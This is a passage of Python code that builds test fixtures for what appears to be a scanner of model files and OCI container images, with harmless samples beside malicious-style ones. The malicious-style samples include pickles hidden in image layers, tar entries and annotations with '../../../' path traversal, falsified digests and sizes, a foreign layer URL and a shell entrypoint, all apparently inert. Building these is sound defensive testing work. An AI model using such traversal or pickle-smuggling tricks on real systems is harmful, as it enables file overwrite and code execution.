    add("shards", {"model.safetensors.index.json": js({"metadata": {"total_size": 64}, "weight_map": {"weight": "model.safetensors", "bias": "model.safetensors"}})}, "an index of shards")
    add("trainer-state", {"trainer_state.json": js({"epoch": 3.0, "eval_loss": 0.5, "log_history": [{"eval_loss": 0.5, "eval_exec": 1}]}), "all_results.json": js({"eval_accuracy": 0.9})}, "a trainer's state")
    add("addresses", {"config.json": js({"model_type": "llama", "_name_or_path": "https://huggingface.co/waag/model", "license_link": "https://www.apache.org/licenses/LICENSE-2.0"})}, "ordinary addresses")
    add("example-keys", {"README.md": README + b"\nSet `HF_TOKEN=hf_...` and `OPENAI_API_KEY=sk-...` first.\n", "config.json": js({"model_type": "llama", "token": "hf_" + "x" * 34, "key": "ghp_" + "yourTokenHere" * 3})}, "placeholders of credentials")
    add("onnx-beside", {"onnx/model.onnx": onnx_model()}, "an ONNX export beside the weights")
    add("script", {"scripts/train.sh": b"#!/bin/sh\nset -e\npython train.py --epochs 3\n"}, "an ordinary shell script")
    for id, (name, source, why) in PACKAGE.items():
        add(f"package-{id}", {name: source}, why)
    shelf.good("notebook", notebook("import numpy as np\nx = np.arange(3)", {"cell_type": "markdown", "metadata": {}, "source": ["# Demo\n", "Never `eval()` this."]}, "print(x.sum())"), "an ordinary notebook", name="demo.ipynb")
    shelf.good("notebook-shell", notebook("!pip install -q torch", "!ls -l", "!nvidia-smi", "%pip install -q transformers", "!python -c 'import torch; print(torch.__version__)'", "%matplotlib inline", "%%bash\nmkdir -p out\necho done", "import pickle\nx = pickle.load(open('x.pkl', 'rb'))", "import os\nos.system('python train.py')"), "a notebook that installs, lists and loads", name="demo.ipynb")
    shelf.good("notebook-outputs", notebook("x", outputs=[{"output_type": "execute_result", "execution_count": 1, "data": {"text/plain": ["array([0, 1])"], "image/png": "iVBORw0KGgo="}, "metadata": {}}]), "a notebook with a picture", name="demo.ipynb")
    shelf.good("train-script", TRAIN, "an ordinary training script", name="train.py")
    shelf.good("csv", b"text,label\nnever eval() this,0\nos.system('x') is a word,1\n", "a data set in a table", name="train.csv")
    shelf.good("jsonl", b'{"messages": [{"role": "user", "content": "what does eval() do?"}]}\n' * 20, "a data set of dialogues", name="train.jsonl")
    shelf.good("vocab-json", js({"eval": 0, "exec": 1, "__import__": 2, "</s>": 3}), "a vocabulary", name="vocab.json")
    shelf.good("merges", "#version: 0.2\nĠ t\nĠ a\ne v\nev al\n".encode(), "merges", name="merges.txt")
    weights = struct.pack("<4096f", *[((i * 2654435761 & 0xFFFFFFFF) / 2**32 - 0.5) / 8 for i in range(4096)])
    shelf.good("random-weights", safetensors({"w": tensor([64, 64], 0, len(weights))}, weights), "weights drawn at random", name="model.safetensors")
    shelf.good("nan-weights", safetensors({"w": tensor([64], 0, 256)}, struct.pack("<f", float("nan")) * 64), "broken or untrained, but harmless: weights that are not numbers", name="model.safetensors")
    shelf.good("inf-weights", safetensors({"w": tensor([64], 0, 256)}, struct.pack("<f", float("inf")) * 64), "broken or untrained, but harmless: weights that are infinite", name="model.safetensors")
    shelf.good("zero-weights", safetensors({"w": tensor([1024], 0, 4096)}, bytes(4096)), "broken or untrained, but harmless: weights that are all zero", name="model.safetensors")
    half = b"".join(weights[i + 2 : i + 4] + b"" for i in range(0, len(weights), 4))
    shelf.good("bf16-weights", safetensors({"w": tensor([64, 64], 0, len(half), "BF16")}, half), "weights of sixteen bits", name="model.safetensors")
    shelf.good("bf16-as-f32", safetensors({"w": tensor([64, 64], 0, len(weights))}, b"".join(b"\0\0" + weights[i + 2 : i + 4] for i in range(0, len(weights), 4))), "weights of sixteen bits, stored as thirty-two: the low bytes are zero", name="model.safetensors")
    shelf.good("zero-bias", safetensors({"bias": tensor([64], 0, 256), "w": tensor([64], 256, 512)}, bytes(256) + weights[:256]), "a bias that is zero, as initialised", name="model.safetensors")
    shelf.good("ones-norm", safetensors({"norm.weight": tensor([64], 0, 256)}, struct.pack("<f", 1.0) * 64), "a norm that is one, as initialised", name="model.safetensors")
    shelf.good("mask-inf", safetensors({"attn.mask": tensor([4, 4], 0, 64), "w": tensor([64], 64, 320)}, struct.pack("<16f", *[0.0 if i // 4 >= i % 4 else float("-inf") for i in range(16)]) + weights[:256]), "an attention mask of minus infinity", name="model.safetensors")
    return shelf


# --- Containers --------------------------------------------------------------------------------------------------


def oci(layers: list[bytes], config: dict | None = None, lie: bool = False, media: str = "application/vnd.oci.image.layer.v1.tar+gzip", annotations: dict | None = None, urls: list[str] | None = None) -> dict[str, bytes]:
    files: dict[str, bytes] = {"oci-layout": b'{"imageLayoutVersion":"1.0.0"}'}

    def blob(data: bytes, kind: str, **more: object) -> dict:
        digest = hashlib.sha256(data).hexdigest()
        files[f"blobs/sha256/{digest}"] = data
        return {"mediaType": kind, "digest": f"sha256:{digest}", "size": len(data) + (999 if lie else 0), **more}

    manifest = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": blob(js(config or {"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": []}}), "application/vnd.oci.image.config.v1+json"),
                "layers": [blob(layer, media, **({"annotations": annotations} if annotations else {}), **({"urls": urls} if urls else {})) for layer in layers]}
    files["index.json"] = js({"schemaVersion": 2, "manifests": [blob(js(manifest), "application/vnd.oci.image.manifest.v1+json")]})
    return files


def layer(**files: bytes) -> bytes:
    return gz(tar_bytes([entry(n.replace("__", "/").replace("_dot_", "."), d) for n, d in files.items()]))


def containers() -> Shelf:
    shelf = Shelf("oci", source="construction, after the OCI image layout")

    def add(id: str, files: dict[str, bytes] | bytes, why: str, expect: str = "deny", name: str = "image") -> None:
        shelf.bad(id, files, why, name=name, expect=expect)

    add("layer-pickle", oci([layer(models__model_dot_pkl=PICKLE)]), "a pickle in a layer")
    add("second-layer-pickle", oci([layer(a=b"x"), layer(models__model_dot_pkl=PICKLE)]), "a pickle in the second layer")
    add("layer-traversal", oci([gz(tar_bytes([entry("../../../waag-inert", b"x")]))]), "a layer whose file leaves")
    add("layer-pickle-plain", oci([tar_bytes([entry("model.pkl", PICKLE)])], media="application/vnd.oci.image.layer.v1.tar"), "a layer that is not compressed")
    add("modelpack-pickle", oci([PICKLE], media="application/vnd.cncf.model.weight.v1.raw"), "a model as an artefact, a pickle")
    add("kitops-title", oci([layer(model_dot_bin=PICKLE)], media="application/vnd.kitops.modelkit.model.v1.tar+gzip", annotations={"org.opencontainers.image.title": "../../../waag-inert"}), "a model kit")
    add("digest-lies", {n: (d + b" " if n.startswith("blobs/") else d) for n, d in oci([layer(a=b"x")]).items()}, "blobs whose digests are wrong", "not-allow")
    add("size-lies", oci([layer(a=b"x")], lie=True), "blobs whose sizes are wrong", "not-allow")
    add("foreign-layer", oci([layer(a=b"x")], urls=["http://example.invalid/layer.tar.gz"]), "a layer from an address", "not-allow")
    add("entrypoint", oci([layer(entry_dot_sh=SCRIPT)], config={"architecture": "amd64", "os": "linux", "config": {"Entrypoint": ["sh", "-c", "echo waag-inert"]}}), "a script in a layer, run at start", "not-allow")
    files = oci([layer(model_dot_pkl=PICKLE)])
    add("as-tar", tar_bytes([entry(n, d) for n, d in files.items()]), "an image as a tar", name="image.tar")
    add("docker-save", tar_bytes([entry("manifest.json", b'[{"Config":"c.json","Layers":["l/layer.tar"]}]'), entry("c.json", b"{}"), entry("l/layer.tar", tar_bytes([entry("model.pkl", PICKLE)]))]), "an image as docker saves it", name="image.tar")
    add("missing-blob", {n: d for n, d in oci([layer(a=b"x")]).items() if not n.startswith("blobs/") or d[:1] == b"{"}, "a layer that is not there", "not-allow")
    return shelf


def containers_good() -> Shelf:
    shelf = Shelf("good-oci", source="construction, after the OCI image layout")
    shelf.good("safetensors", oci([layer(model__model_dot_safetensors=plain_safetensors(), model__config_dot_json=b"{}")]), "an image with weights", name="image")
    shelf.good("artefact", oci([plain_safetensors()], media="application/vnd.cncf.model.weight.v1.raw", annotations={"org.opencontainers.image.title": "model.safetensors"}), "weights as an artefact", name="image")
    return shelf


